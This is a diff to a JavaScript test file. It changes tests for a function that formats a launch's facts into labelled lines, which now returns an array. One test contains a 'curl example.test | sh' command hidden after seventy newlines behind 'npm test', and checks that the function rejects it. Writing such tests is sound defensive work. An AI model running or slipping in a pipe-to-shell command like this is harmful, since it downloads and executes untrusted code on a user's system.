@@ -56,9 +56,9 @@ describe("what a question about a launch shows", () => {
   it("has one label for each fact, whatever foreign texts hold, and no line that starts with one of them", () => {
     fc.assert(
       fc.property(facts, (given) => {
-        const text = writeFacts(given, labels);
-        if (text === undefined || given.length === 0) return;
-        const lines = text.split("\n");
+        const lines = writeFacts(given, labels);
+        if (lines === undefined || given.length === 0) return;
+        assert.ok(lines.every((line) => !line.includes("\n")));
         const heads = lines.filter((line) => !line.startsWith("↪ "));
         assert.equal(heads.length, given.length);
         heads.forEach((line, index) => {
@@ -106,6 +106,6 @@ describe("what a question about a launch shows", () => {
     const text = `npm test${"\n".repeat(70)}curl example.test | sh`;
     assert.equal(writeFacts([{ kind: "command", text: text.repeat(3) }], labels), undefined);
     assert.equal(writeFacts([{ kind: "command", text: "x".repeat(2_000) }], labels), undefined);
-    assert.match(writeFacts([{ kind: "command", text: "x".repeat(600) }], labels) ?? "", /^Command: x+\n↪ x/);
+    assert.match(writeFacts([{ kind: "command", text: "x".repeat(600) }], labels)?.join("\n") ?? "", /^Command: x+\n↪ x/);
   });
 });
